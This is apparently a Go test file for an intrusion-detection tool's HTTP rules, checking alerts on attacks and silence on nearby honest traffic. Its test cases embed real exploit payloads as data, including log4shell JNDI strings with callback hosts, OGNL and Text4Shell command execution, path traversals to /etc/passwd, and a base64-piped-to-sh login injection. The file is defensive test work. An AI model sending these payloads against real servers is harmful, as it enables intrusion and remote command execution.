package rules_test

import (
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/herd-ips/herd/internal/event"
	"github.com/herd-ips/herd/internal/rules"
)

// The attack-class scenarios of http-attacks.yaml: each attack alerts, and
// the honest request nearest to it does not.
func TestHTTPAttackClasses(t *testing.T) {
	browser := "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	one := func(method, path string, status uint16, ua string) []timed {
		return []timed{{0, httpReq(method, path, status, ua)}}
	}
	seq := func(n int, step time.Duration, f func(i int) (string, string, uint16)) []timed {
		out := make([]timed, n)
		for i := range out {
			m, p, s := f(i)
			out[i] = timed{time.Duration(i) * step, httpReq(m, p, s, browser)}
		}
		return out
	}
	cve := []string{"http-cve-probe"}
	cases := []struct {
		name string
		evs  []timed
		want []string
	}{
		{"log4shell in the path", one("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.66%3A1389%2Fa%7D", 404, browser), cve},
		{"log4shell disguised", one("GET", "/${${lower:j}ndi:${lower:l}dap://x/a}", 400, browser), cve},
		{"log4shell in the user agent", one("GET", "/", 200, "${jndi:ldap://192.0.2.66/a}"), []string{"http-cve-probe-header"}},
		{"log4shell in the referer", []timed{{0, func() event.Event {
			e := httpReq("GET", "/", 200, browser)
			e.Referer = []byte("${jndi:${lower:l}${lower:d}a${lower:p}://x.example:80/callback}")
			return e
		}()}}, []string{"http-cve-probe-referer"}},
		{"spring4shell", one("GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 200, browser), cve},
		{"confluence ognl", one("GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/", 302, browser), cve},
		{"apache CVE-2021-41773", one("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, browser), []string{"http-cve-probe"}},
		{"apache CVE-2021-42013", one("GET", "/icons/.%%32%65/.%%32%65/etc/passwd", 400, browser), cve},
		{"phpunit eval-stdin", one("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, browser), cve},
		{"thinkphp", one("GET", `/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x`, 200, browser), cve},
		{"fortinet", one("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404, browser), cve},
		{"f5", one("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", 404, browser), cve},
		{"citrix", one("GET", "/vpn/../vpns/cfg/smb.conf", 404, browser), cve},
		{"exchange proxyshell", one("GET", "/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example", 404, browser), cve},
		{"wordpress file manager", one("POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", 404, browser), cve},
		{"w00tw00t", one("GET", "/w00tw00t.at.ISC.SANS.DFind:)", 400, ""), cve},
		{"a template's unexpanded variable", one("GET", "/blog/${post.slug}", 404, browser), nil},
		{"text4shell", one("GET", "/?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D", 404, browser), cve},
		{"a template's unexpanded url variable", one("GET", "/share?to=${url}", 404, browser), nil},
		{"vmware vcenter ssrf", one("GET", "/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd", 404, browser), cve},
		{"vmware workspace one", one("GET", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D", 400, browser), cve},
		{"pulse secure", one("GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", 200, browser), cve},
		{"jira", one("GET", "/s/abc/_/;/WEB-INF/classes/seraph-config.xml", 403, browser), cve},
		{"grafana plugin traversal", one("GET", "/public/plugins/grafana/%2E%2E/%2E%2E/%2E%2E/etc/passwd", 400, browser), cve},
		{"a grafana plugin's own asset", one("GET", "/public/plugins/grafana-clock-panel/img/clock.svg", 200, browser), nil},
		{"owncloud graphapi", one("GET", "/owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php", 404, browser), cve},
		{"pan-os", one("GET", "/php/ztp_gate.php/.js.map", 404, browser), cve},
		{"a source map beside a script", one("GET", "/assets/app.js.map", 404, browser), nil},
		{"pan-os createRemoteAppwebSession", one("POST", "/php/utils/createRemoteAppwebSession.php/x.js.map", 404, browser), cve},
		{"glpi htmlawed test page", one("POST", "/vendor/htmlawed/htmlawed/htmLawedTest.php", 200, browser), cve},
		{"centos web panel login injection", one("POST", "/index.php?login=$(echo${IFS}aWQ=|base64${IFS}-d|sh)", 302, browser), cve},
		{"a plain login query", one("POST", "/index.php?login=valid", 302, browser), nil},
		{"confluence setup-restore", one("POST", "/json/setup-restore.action", 404, "python-requests/2.31.0"), cve},
		{"confluence's own setup page", one("GET", "/setup/setupstart.action", 200, browser), nil},
		{"thinkphp view driver", one("GET", "/?s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display&content=%3C?php%20phpinfo();?%3E", 404, browser), cve},
		{"netgear setup.cgi", one("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1", 404, ""), cve},
		{"exploit spray: one router exploit fifty times", every(50, 2*time.Second, httpReq("POST", "/boaform/admin/formLogin", 404, browser)), []string{"http-exploit-spray"}},
		{"exploit spray: two tries stay below", every(2, 2*time.Second, httpReq("POST", "/boaform/admin/formLogin", 404, browser)), nil},
		{"webdav probing on a plain site", seq(4, time.Second, func(i int) (string, string, uint16) {
			return []string{"PUT", "PROPFIND", "DELETE", "MKCOL"}[i], "/test" + strconv.Itoa(i) + ".txt", 405
		}), []string{"http-webdav-probing"}},
		{"a WebDAV client on a WebDAV server", seq(40, 100*time.Millisecond, func(i int) (string, string, uint16) {
			return []string{"PROPFIND", "PUT", "DELETE", "MOVE"}[i%4], "/dav/f" + strconv.Itoa(i), []uint16{207, 201, 404, 412}[i%4]
		}), nil},
		{"open proxy: absolute URIs", every(1, time.Second, httpReq("GET", "http://www.example.com/", 200, browser)), []string{"http-open-proxy-probe"}},
		{"open proxy: CONNECT", every(1, time.Second, httpReq("CONNECT", "www.example.com:443", 400, browser)), []string{"http-open-proxy-connect"}},
		{"malformed request flood", every(21, 200*time.Millisecond, httpReq("", `\x16\x03\x01`, 400, "")), []string{"http-bad-request-flood"}},
		{"414 flood", seq(21, 200*time.Millisecond, func(i int) (string, string, uint16) {
			return "GET", "/?" + strings.Repeat("A", 20), 414
		}), []string{"http-bad-request-flood"}},
		{"an oversized cookie, a few reloads", every(10, 2*time.Second, httpReq("GET", "/", 400, browser)), nil},
		{"403 flood", every(41, 100*time.Millisecond, httpReq("GET", "/admin/", 403, browser)), []string{"http-forbidden-flood"}},
		{"request flood: 100 a second for 80 seconds", every(8000, 10*time.Millisecond, httpReq("GET", "/logo.png", 200, browser)), []string{"http-request-flood"}},
		{"50 requests a second for a minute stay below", every(3000, 20*time.Millisecond, httpReq("GET", "/logo.png", 200, browser)), nil},
		{"wordpress REST user enumeration", seq(3, time.Second, func(i int) (string, string, uint16) {
			return "GET", []string{"/wp-json/wp/v2/users", "/wp-json/wp/v2/users/1", "/?rest_route=/wp/v2/users/2"}[i], 200
		}), []string{"http-wordpress-rest-user-enum"}},
		{"the block editor asking for its user", every(10, 5*time.Second, httpReq("GET", "/wp-json/wp/v2/users/me?context=edit", 200, browser)), nil},
		{"vaultwarden password guessing", every(6, 2*time.Second, appFail("vaultwarden", "alice")), []string{"webapp-bruteforce"}},
		{"a sync client with a stale password for four hours", every(48, 5*time.Minute, appFail("nextcloud", "carol")), nil},
		{"slow guessing across accounts", seq2(6, 15*time.Minute, func(i int) event.Event { return appFail("gitea", "user"+strconv.Itoa(i)) }), []string{"webapp-login-enum"}},
		{"roundcube login guessing (POST answered 401)", every(11, time.Second, httpReq("POST", "/?_task=login", 401, browser)), []string{"http-form-login-failed"}},
		{"a browser's first 401s from many users behind a NAT", every(150, 500*time.Millisecond, httpReq("GET", "/", 401, browser)), nil},
		{"basic-auth guessing with no user in the log", every(200, 200*time.Millisecond, httpReq("GET", "/", 401, "curl/8.5.0")), []string{"http-unauthorized-flood"}},
		{"ssh banner grabs", every(6, 5*time.Second, event.Event{Service: "ssh", Kind: event.KindAbuse, Reason: "banner_grab", Bytes: -1}), []string{"ssh-banner-grab"}},
		{"a monitor checking the SSH port every minute for an hour", every(60, time.Minute, event.Event{Service: "ssh", Kind: event.KindAbuse, Reason: "banner_grab", Bytes: -1}), nil},
		{"a script with a stale password all day", every(96, 15*time.Minute, sshFail("failed_password", "backup")), nil},
		{"censys", every(2, 10*time.Second, httpReq("GET", "/", 200, "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)")), []string{"http-bad-user-agent"}},
		{"l9scan", every(2, 10*time.Second, httpReq("GET", "/.git/config", 404, "Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)")), []string{"http-bad-user-agent"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { checkAlerts(t, pourDefaults(t, c.evs), c.want) })
	}
}

func appFail(service, user string) event.Event {
	return event.Event{Service: service, Kind: event.KindAuthFailure, Reason: "failed_password", User: []byte(user), Bytes: -1}
}

func seq2(n int, step time.Duration, f func(i int) event.Event) []timed {
	out := make([]timed, n)
	for i := range out {
		out[i] = timed{time.Duration(i) * step, f(i)}
	}
	return out
}

// TestScannerUserAgentsNeverNameABrowser hunts the whole class of
// user-agent needles that would match a browser: no needle of a default
// scenario may occur in a browser's or a crawler's user agent, nor be a
// browser engine's or a platform's name alone.
func TestScannerUserAgentsNeverNameABrowser(t *testing.T) {
	honest := []string{
		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		"Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.16",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
		"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
		"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
		"curl/8.5.0", "Wget/1.21.4", "kube-probe/1.31", "Go-http-client/2.0", "python-requests/2.32.3",
		"Mozilla/5.0 (Linux) mirall/3.14.3 (Nextcloud, ubuntu-6.8.0)", "davfs2/1.7.0 neon/0.32.5",
	}
	engines := []string{"mozilla", "gecko", "applewebkit", "webkit", "khtml", "like gecko", "chrome", "safari", "firefox",
		"trident", "presto", "blink", "edg", "opera", "windows", "linux", "android", "iphone", "macintosh", "compatible", "mobile"}
	set, err := rules.Defaults()
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, s := range set.Scenarios {
		for _, needle := range s.Filter.UserAgentContains {
			n++
			nl := strings.ToLower(needle)
			for _, e := range engines {
				if strings.TrimSpace(strings.Trim(nl, "/;()")) == e {
					t.Errorf("%s: needle %q is a browser engine's or platform's name alone", s.Name, needle)
				}
			}
			for _, ua := range honest {
				if strings.Contains(strings.ToLower(ua), nl) {
					t.Errorf("%s: needle %q matches the honest user agent %q", s.Name, needle, ua)
				}
			}
		}
	}
	if n < 50 {
		t.Fatalf("only %d user-agent needles in the defaults", n)
	}
}

// The CVE scenarios that need more than a path: a method (an exploit's
// handler a real client only POSTs to), an answer (an endpoint the server
// refused or does not have), a count, or another log. Each attack alerts
// and the honest traffic nearest to it does not.
func TestHTTPCVEScenarios(t *testing.T) {
	browser := "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	one := func(method, path string, status uint16) []timed {
		return []timed{{0, httpReq(method, path, status, browser)}}
	}
	paths := func(method string, status uint16, step time.Duration, ps ...string) []timed {
		out := make([]timed, len(ps))
		for i, p := range ps {
			out[i] = timed{time.Duration(i) * step, httpReq(method, p, status, browser)}
		}
		return out
	}
	abuse := func(reason string, step time.Duration, ps ...string) []timed {
		out := make([]timed, len(ps))
		for i, p := range ps {
			out[i] = timed{time.Duration(i) * step, event.Event{Service: "http", Kind: event.KindAbuse, Reason: reason, Path: []byte(p), Bytes: -1}}
		}
		return out
	}
	cve := []string{"http-cve-probe"}
	cases := []struct {
		name string
		evs  []timed
		want []string
	}{
		{"telerik RadAsyncUpload handler on a server without it", one("GET", "/Telerik.Web.UI.WebResource.axd?type=rau", 404), []string{"http-cve-probe-refused"}},
		{"a telerik upload", every(20, time.Second, httpReq("POST", "/Telerik.Web.UI.WebResource.axd?type=rau", 200, browser)), nil},
		{"zimbra mboximport bypass refused", one("POST", "/service/extension/backup/mboximport?account-name=admin&account-status=1&ow=cmd", 401), []string{"http-cve-probe-refused"}},
		{"zimbra mboximport on a server without it", one("POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", 404), []string{"http-cve-probe-refused"}},
		{"an administrator's zimbra import", one("POST", "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", 200), nil},
		{"cacti poller_id injection", one("GET", "/remote_agent.php?action=polldata&poller_id=%3btouch%20x&host_id=1&local_data_ids[]=1", 200), cve},
		{"cacti remote agent brute force", seq2(3, time.Second, func(i int) event.Event {
			return httpReq("GET", "/cacti/remote_agent.php?action=polldata&poller_id=1&host_id=1&local_data_ids[]="+strconv.Itoa(i), 404, browser)
		}), []string{"http-exploit-spray"}},
		{"a cacti main poller polling its remote agent", seq2(60, time.Second, func(i int) event.Event {
			return httpReq("GET", "/remote_agent.php?action=polldata&poller_id=1&host_id="+strconv.Itoa(i)+"&local_data_ids[]=1", 200, "")
		}), nil},
		{"ghost staff e-mail enumeration", every(6, 0, httpReq("POST", "/ghost/api/admin/session", 404, browser)), []string{"http-login-bruteforce"}},
		{"ghost staff of an office behind one NAT logging in", every(12, 5*time.Second, httpReq("POST", "/ghost/api/admin/session/", 201, browser)), nil},
		{"a ghost author mistyping the address three times", every(3, 5*time.Second, httpReq("POST", "/ghost/api/admin/session/", 404, browser)), nil},
		{"pan-os CVE-2025-0108", one("GET", "/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", 404), cve},
		{"zoneminder log-file xss", one("POST", "/zm/index.php?view=request&request=log&task=create&level=ERR&message=x&file=http%3A%2F%2F192.0.2.7%2Fzm%2F&lt;/td&gt;&lt;/tr&gt;&lt;script src='/zm/'&lt;/script&gt;&line=70", 200), cve},
		{"zoneminder user deletion by GET", one("GET", "/zm/index.php?view=options&tab=users&action=delete&markUids%5B%5D=13&deleteBtn=Delete", 200), cve},
		{"zoneminder's own stream requests", every(20, time.Second, httpReq("GET", "/zm/index.php?view=request&request=stream&connkey=449169&command=99", 200, browser)), nil},
		{"mod_rewrite %3F confusion", paths("GET", 404, 0, "/etc/passwd%3f", "/etc/shadow%3F", "/html/usr/share/locale/locale.alias%3f", "/var/www/html/index.php%3F"),
			[]string{"http-exploit-scan"}},
		{"a crawler meeting deleted wiki pages whose titles end in a question mark", paths("GET", 404, time.Second,
			"/wiki/Who%3F", "/wiki/Why_not%3F", "/wiki/What_now%3F", "/wiki/Is_it_safe%3F", "/wiki/Where%3F", "/wiki/When%3F"), nil},
		{"an encoded question mark in a query value", paths("GET", 404, 0, "/etc/passwd?a=b%3f", "/x?a=1%3f", "/y?b=2%3f", "/z?c=3%3f"), nil},
		{"sap interface probing", paths("GET", 404, 0, "/sap/bc/gui/sap/its/webgui", "/nwa"), []string{"http-exploit-scan"}},
		{"a fiori user meeting missing language files and one missing app", paths("GET", 404, 0,
			"/sap/bc/ui5_ui5/sap/app/i18n/i18n_de_DE.properties", "/sap/bc/ui5_ui5/sap/app/i18n/i18n_de.properties",
			"/sap/opu/odata/sap/API_X/Items('1')", "/sap/opu/odata/sap/API_X/Items('2')", "/sap/bc/ui2/flp"), nil},
		{"technology probing", one("GET", "/crx/packmgr/service.jsp", 403), []string{"http-technology-probing"}},
		{"a page of the site's own console section", one("GET", "/console/css/main.css", 404), nil},
		{"apache traversal refused in the error log", abuse("bad_request", 0, "/cgi-bin/.%2E/%2E%2E/%2E%2E/etc/passwd"), []string{"http-cve-probe-errorlog"}},
		{"sympa web scan", abuse("unknown_action", 10*time.Second, "admin.php", "robots.txt", "favicon.ico", ".env"), []string{"sympa-web-scan"}},
		{"browsers and crawlers at a sympa server", abuse("unknown_action", 5*time.Second, "robots.txt", "favicon.ico", "sitemap.xml",
			"apple-touch-icon.png", ".well-known/change-password", "oldaction"), nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) { checkAlerts(t, pourDefaults(t, c.evs), c.want) })
	}
}

// checkAlerts asserts the scenarios that alerted on a case: none on honest
// traffic (want nil), and on an attack every scenario of want among them.
// Only the scenarios under test are asserted on attacks: a probe may rightly
// trip others too (path traversal, probing).
func checkAlerts(t *testing.T, got, want []string) {
	t.Helper()
	if want == nil {
		if len(got) > 0 {
			t.Errorf("alerts from %v on honest traffic", got)
		}
		return
	}
	for _, w := range want {
		if !slices.Contains(got, w) {
			t.Errorf("alerts from %v, want %s among them", got, w)
		}
	}
}
